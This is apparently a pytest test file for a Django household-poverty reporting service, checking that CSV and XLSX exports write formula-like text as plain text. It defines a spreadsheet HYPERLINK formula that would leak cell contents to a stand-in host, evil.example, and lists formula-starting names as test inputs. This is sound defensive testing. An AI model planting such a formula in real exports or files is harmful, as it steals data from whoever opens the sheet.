"""Exports never carry a live formula: text a spreadsheet would run (`=`, `+`, `-`, `@`, tab,
carriage return first) is written as text, in CSV and in XLSX; numbers stay numbers."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from households.models import Area
from programmes.models import Programme
from programmes.services import enrollment_create
from tests.factories import AreaFactory, HouseholdFactory, member_data
from tests.programmes.helpers import approve

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")'
POOR = {"income": 1_000_000, "deprivations": ("water", "latrine", "telecom")}
NEAR_POOR = {"income": 1_300_000, "deprivations": ("water",)}


def csv_rows(response):
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response):
    assert response.status_code == 200, response.content
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def programmes_report(areas, users, client_for):
    """A programme named like a formula whose household stayed poor while a comparable one
    escaped: its exit rate trails the comparison's, a negative number (-100.0)."""
    manager = client_for(users["manager"])
    programme = manager.post("/api/v1/programmes/", {
        "code": "QS-EVIL", "name": LINK, "kind": "livelihood", "area": "20641", "starts_on": "2024-01-01",
        "budget": 1_000_000, "funding_source": "local", "eligible_classes": ["poor"], "status": "open"},
        format="json")
    assert programme.status_code == 201, programme.data
    stuck, escaped = (HouseholdFactory(area=areas["20641"], members=[member_data()]) for _ in range(2))
    for household, then in ((stuck, POOR), (escaped, NEAR_POOR)):
        approve(household, year=2023, **POOR)
        approve(household, year=2024, **then)
    enrollment_create(by=users["manager"], programme=Programme.objects.get(code="QS-EVIL"), household=stuck,
                      enrolled_on=date(2024, 1, 15))
    return lambda fmt: manager.get(f"/api/v1/reports/programmes/{fmt}/", {"area": "20641"})


@pytest.mark.django_db
def test_programme_name_is_text_in_csv(programmes_report):
    rows = csv_rows(programmes_report("csv"))
    header = rows[rows.index(["programmes"]) + 1]
    row = dict(zip(header, rows[rows.index(["programmes"]) + 2]))

    assert row["name"] == "'" + LINK
    assert (row["budget"], row["exit_rate_difference"]) == ("1000000", "-100.0")


@pytest.mark.django_db
def test_programme_name_is_text_in_xlsx(programmes_report):
    rows = xlsx_cells(programmes_report("xlsx"))
    header = [c.value for c in rows[[r[0].value for r in rows].index("programmes") + 1]]
    row = dict(zip(header, rows[[r[0].value for r in rows].index("programmes") + 2]))

    assert (row["name"].value, row["name"].data_type) == (LINK, "s")  # text, not a formula ("f")
    assert row["name"].quotePrefix  # and it stays text when the cell is edited
    assert (row["budget"].value, row["budget"].data_type) == (1_000_000, "n")
    assert (row["exit_rate_difference"].value, row["exit_rate_difference"].data_type) == (-100.0, "n")
    assert not row["code"].quotePrefix


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\tTab", "\rReturn"])
def test_area_names_that_start_like_formulas_are_text(areas, users, client_for, name):
    AreaFactory(code="20663", name=name, parent=areas["48"], residence="rural")
    query = {"area": "48", "year": 2024, "group_by": "child"}
    manager = client_for(users["manager"])

    table = csv_rows(manager.get("/api/v1/reports/poverty/csv/", query))
    book = xlsx_cells(manager.get("/api/v1/reports/poverty/xlsx/", query))

    assert ["20663", "'" + name] in [row[:2] for row in table]
    [cell] = [row[1] for row in book if row[0].value == "20663"]
    assert (cell.value, cell.data_type) == (name.replace("\r", "\n"), "s")  # XML reads a lone \r as \n


@pytest.mark.django_db
def test_control_characters_cannot_break_an_xlsx(users, client_for, areas):
    Area.objects.filter(code="20641").update(name="Xã\x01Quế Sơn")
    response = client_for(users["admin48"]).get("/api/v1/reports/poverty/xlsx/", {
        "area": "48", "year": 2024, "group_by": "child"})
    assert response.status_code == 200
    cells = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True) for c in row]
    assert "Xã\ufffdQuế Sơn" in cells
